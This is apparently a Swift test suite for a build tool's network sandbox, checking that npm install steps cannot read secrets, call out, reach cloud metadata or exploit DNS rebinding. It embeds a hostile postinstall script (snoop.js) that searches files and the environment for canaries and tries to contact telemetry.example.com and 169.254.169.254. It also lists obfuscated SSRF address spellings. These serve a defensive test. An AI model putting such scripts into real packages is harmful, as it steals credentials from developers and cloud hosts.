import ForgeTestSupport
import Foundation
import Testing

/// P9, P10 and P11 of the threat model: what strangers' code in an install step can see, whom it can reach, and as whom.
@Suite struct EgressPropertyTests {
    private static let token = "canary-of-the-operator-77ab"

    /// P9
    @Test func aPackageThatPrintsItsEnvironmentReadsOtherProjectsAndCallsHomeSeesNothingReachesNothingAndIsReported() async throws {
        try await withForgeHome { home in
            let authority = try await TestAuthority.make(in: home)
            let registry = try await PrivateRegistry.start(.npm, in: home, authority: authority, authorization: "Bearer \(Self.token)")
            let other = try home.project(["secret.txt": "canary-of-another-project\n", "index.html": "hi"], named: "other")
            _ = try await home.build(other.path)
            let project = try await home.snoopingProject(lookingFor: ["\(other.path)/secret.txt", home.path, "\(home.folder)/person"])
            let environment = registry.environment.merging([
                "npm_config_//127.0.0.1:\(registry.port)/:_authToken": Self.token, "AWS_SECRET_ACCESS_KEY": "canary-of-the-environment",
            ]) { $1 }
            let run = try await home.run(
                ["build", project.path, "--json", "--progress", "plain", "--out", "\(home.folder)/out"], environment: environment)
            #expect(run.exitCode == 0, "\(run.error)\(run.output)")
            let report = BuiltReport(json: try run.json())
            let file = try #require(FileManager.default.contents(atPath: "\(home.folder)/out/node_modules/snooped.json"), "\(run.error)")
            let snooped = try JSONDecoder().decode(JSON.self, from: file)
            #expect(snooped["seen"] == [])
            #expect(snooped["files"]?.number ?? 0 > 3, "it looked at files at all")
            #expect(snooped["plain"] == 403)
            #expect(snooped["metadata"] == 403)
            #expect(snooped["tunnel"] == 403)
            #expect(snooped["direct"]?.text?.wholeMatch(of: /E(NET|HOST)UNREACH|EPERM|EACCES/) != nil, "\(snooped)")
            // P11: a tunnel to the registry that is used for another server, in the handshake and inside it; and what writes.
            #expect(snooped["fronted"] == "cut")
            #expect(snooped["otherHost"] == 403)
            #expect(snooped["published"] == 405)
            #expect(snooped["read"] == 200)
            let refused = try home.egress(report, step: "install").filter { $0["verdict"] == "refused" }
            #expect(
                Set(refused.compactMap { $0["reason"]?.text }) == [
                    "not an allowed server", "TLS names another server", "Host header names another server", "writes to a registry",
                ])
            #expect(
                Set(refused.compactMap { $0["origin"]?.text }) == [
                    "http://169.254.169.254", "http://telemetry.example.com", "https://telemetry.example.com", registry.origin,
                ])
            let warnings = report.json["warnings"]?.elements.compactMap(\.text) ?? []
            #expect(warnings.contains { $0.contains("wanted `https://telemetry.example.com`") })
            for word in [Self.token, "canary-of-another-project", "canary-of-the-environment"] {
                #expect(!run.error.contains(word))
                #expect(try await home.files(in: "\(home.folder)/out", holding: word) == [])
                #expect(try await home.files(in: "\(home.path)/logs", holding: word) == [])
            }
            #expect(!registry.requests().contains { $0.hasPrefix("PUT") || $0.contains("fronted") })
        }
    }

    /// P10
    @Test(arguments: [
        "http://169.254.169.254/latest/meta-data/", "http://[::ffff:169.254.169.254]/latest", "http://2852039166/latest",
        "http://0251.0376.0251.0376/latest", "http://0xa9fea9fe/latest", "http://127.0.0.1:1/", "http://localhost/", "http://[::1]/",
        "https://telemetry.example.com/x.tgz", "http://metadata.google.internal/computeMetadata/v1/",
    ]) func aRegistryThatSendsAStepElsewhereSendsItNowhere(target: String) async throws {
        try await withForgeHome { home in
            let registry = try await home.npmRegistry("redirect=moon-phase:\(target)")
            let project = try await home.project(needing: "moon-phase", from: registry)
            let failure = try await home.failedBuild(50, project.path, in: registry.environment)
            #expect(failure.error["code"] == "step.failed")
            // As npm writes it: it knows other spellings of addresses.
            #expect(failure.said.contains("403") || failure.said.contains("Forbidden"), "\(failure.said)")
            #expect(registry.tarballs() == [])
        }
    }

    /// P10
    @Test func aNameThatTurnsIntoThisMachinesIsFollowedNoFurther() async throws {
        try await withForgeHome { home in
            let project = try home.project(locked: "express-app")
            try project.write([".npmrc": "fetch-retries=0\n"])
            let run = try await home.rebinding(["203.0.113.7", "127.0.0.1"], build: project)
            #expect(run.build.exitCode == 50, "\(run.build.error)\(run.build.output)")
            let hint = try run.build.json()["error"]?["hint"]?.text ?? ""
            #expect(hint.contains("FORGE_EGRESS_ALLOW=http://registry.test"), "\(hint)")
            #expect(run.names.first == "registry.test 203.0.113.7" && run.names.last == "registry.test 127.0.0.1", "\(run.names)")
            #expect(!run.outside.isEmpty && run.inside.isEmpty, "\(run.inside)")
        }
    }

    /// P10
    @Test func aNameThatIsThisMachinesToo() async throws {
        try await withForgeHome { home in
            let project = try home.project(locked: "express-app")
            try project.write([".npmrc": "fetch-retries=0\n"])
            let run = try await home.rebinding(["203.0.113.7,127.0.0.1"], build: project)
            #expect(run.build.exitCode == 50)
            #expect(run.outside.isEmpty && run.inside.isEmpty)
        }
    }

    /// The same without a trick, so that the two above cannot fail for another reason.
    @Test func aNameThatStaysIsInstalledFrom() async throws {
        try await withForgeHome { home in
            let run = try await home.rebinding(["203.0.113.7"], build: try home.project(locked: "express-app"))
            #expect(run.build.exitCode == 0, "\(run.build.error)\(run.build.output)")
            #expect(!run.outside.isEmpty && run.inside.isEmpty)
        }
    }
}

extension ForgeHome {
    /// Its own install script looks around; it has one dependency.
    fileprivate func snoopingProject(lookingFor places: [String]) async throws -> TemporaryProject {
        let open = try await npmRegistry()
        let project = try await project(needing: "moon-phase", from: open)
        let list = String(decoding: try JSONEncoder().encode(places), as: UTF8.self)
        try project.write([
            "package.json": """
            { "name": "needy", "version": "1.0.0", "dependencies": { "moon-phase": "*" }, "scripts": { "postinstall": "node snoop.js" } }

            """,
            "snoop.js": "const places = \(list);\n" + Self.snoop,
        ])
        return project
    }

    private static let snoop = """
        const fs = require("node:fs"), http = require("node:http"), net = require("node:net"), tls = require("node:tls");
        const proxy = new URL(process.env.HTTP_PROXY), registry = new URL(process.env.npm_config_registry);
        const seen = [];
        let files = 0;
        function note(where, text) { for (const found of String(text).match(/canary-of-[a-z-]+/g) || []) seen.push(where + ": " + found); }
        function walk(path, depth) {
          let status;
          try { status = fs.lstatSync(path); } catch { return; }
          if (status.isDirectory()) {
            if (depth > 6 || ["/usr", "/sys", "/dev", "/workspace"].includes(path)) return;
            let names = [];
            try { names = fs.readdirSync(path); } catch { return; }
            for (const name of names) walk(path === "/" ? "/" + name : path + "/" + name, depth + 1);
          } else if (status.isFile() && status.size < 4e6) {
            if (path.startsWith("/proc/") && !/environ|cmdline|mountinfo|maps/.test(path)) return;
            try { note(path, fs.readFileSync(path, "latin1")); files++; } catch {}
          }
        }
        const answer = (start) => new Promise((resolve) => {
          const timer = setTimeout(() => resolve("no answer"), 8000);
          start((outcome) => { clearTimeout(timer); resolve(outcome); });
        });
        const through = (url) => answer((done) => http.get({ hostname: proxy.hostname, port: proxy.port, path: url, headers: { Host: new URL(url).host } },
          (got) => done(got.statusCode)).on("error", (e) => done(e.code)));
        const tunnel = (to) => answer((done) => http.request({ hostname: proxy.hostname, port: proxy.port, method: "CONNECT", path: to, headers: { Host: to } })
          .on("connect", (got, socket) => done(got.statusCode === 200 ? socket : got.statusCode)).on("error", (e) => done(e.code)).end());
        async function inside(servername, request) {
          const socket = await tunnel(registry.host);
          if (!(socket instanceof net.Socket)) return socket;
          return answer((done) => {
            const secure = tls.connect({ socket, servername, host: registry.hostname, ca: fs.readFileSync(process.env.NODE_EXTRA_CA_CERTS) }, () => {
              if (servername) return done("handshake");
              secure.write(request);
            });
            secure.on("data", (data) => done(Number(String(data).split(" ")[1])));
            secure.on("error", () => done("cut"));
            secure.on("close", () => done("cut"));
          });
        }
        (async () => {
          note("environment", JSON.stringify(process.env));
          for (const place of places) walk(place, 0);
          walk("/", 0);
          const host = "Host: " + registry.host + "\\r\\n";
          const found = {
            plain: await through("http://telemetry.example.com/installed"),
            metadata: await through("http://169.254.169.254/latest/meta-data/"),
            tunnel: await tunnel("telemetry.example.com:443"),
            direct: await answer((done) => net.connect(80, "192.0.2.1", () => done("connected")).on("error", (e) => done(e.code))),
            fronted: await inside("telemetry.example.com", ""),
            otherHost: await inside("", "GET /fronted HTTP/1.1\\r\\nHost: telemetry.example.com\\r\\n\\r\\n"),
            published: await inside("", "PUT /moon-phase HTTP/1.1\\r\\n" + host + "Content-Length: 2\\r\\n\\r\\n{}"),
            read: await inside("", "GET /moon-phase HTTP/1.1\\r\\n" + host + "\\r\\n"),
          };
          fs.writeFileSync("node_modules/snooped.json", JSON.stringify({ seen, files, ...found }, null, 1));
          process.exit(0);
        })();

        """

    fileprivate struct Rebinding {
        let build: ForgeRun
        /// What the name server was asked and said.
        let names: [String]
        /// Requests to the address that the name had at first, and to this machine's own.
        let outside: [String]
        let inside: [String]
    }

    /// Builds in a network of its own, where `registry.test` has the addresses of `answers`, one answer after the other.
    fileprivate func rebinding(_ answers: [String], build project: TemporaryProject) async throws -> Rebinding {
        let checkout = BuildProducts.checkout
        let script = """
            set -eu
            ip link set lo up
            ip address add 203.0.113.7/32 dev lo
            printf 'nameserver 127.0.0.1\\noptions timeout:2 attempts:1\\n' > output/resolv.conf
            printf 'hosts: files dns\\n' > output/nsswitch.conf
            mount --bind output/resolv.conf /etc/resolv.conf
            mount --bind output/nsswitch.conf /etc/nsswitch.conf
            python3 \(checkout)fixtures/dns/server.py 127.0.0.1 53 output/names.log \(answers.joined(separator: " ")) & names=$!
            python3 \(checkout)fixtures/registries/npm/registry.py serve \(checkout).build/inputs/npm --address 203.0.113.7 --port 80 \\
              --port-file output/outside.port --log output/outside.log > output/outside.txt & outside=$!
            python3 \(checkout)fixtures/registries/npm/registry.py serve \(checkout).build/inputs/npm --address 127.0.0.1 --port 80 \\
              --port-file output/inside.port --log output/inside.log > output/inside.txt & inside=$!
            trap 'kill $names $outside $inside' EXIT
            for file in output/names.log output/outside.port output/inside.port; do
              n=0; until [ -s $file ]; do n=$((n + 1)); [ $n -lt 200 ]; sleep 0.05; done
            done
            npm_config_registry=http://registry.test/ \(BuildProducts.executable("forge")) build \(project.path) --json --progress plain
            """
        let run = try await start(program: "/usr/bin/unshare", ["-n", "-m", "/bin/sh", "-c", script]).finish(within: 200)
        func lines(_ name: String) -> [String] {
            String(decoding: FileManager.default.contents(atPath: "\(folder)/output/\(name).log") ?? Data(), as: UTF8.self)
                .split(separator: "\n").map(String.init)
        }
        return Rebinding(
            build: run, names: lines("names").filter { $0 != "ready" }, outside: lines("outside"), inside: lines("inside"))
    }
}
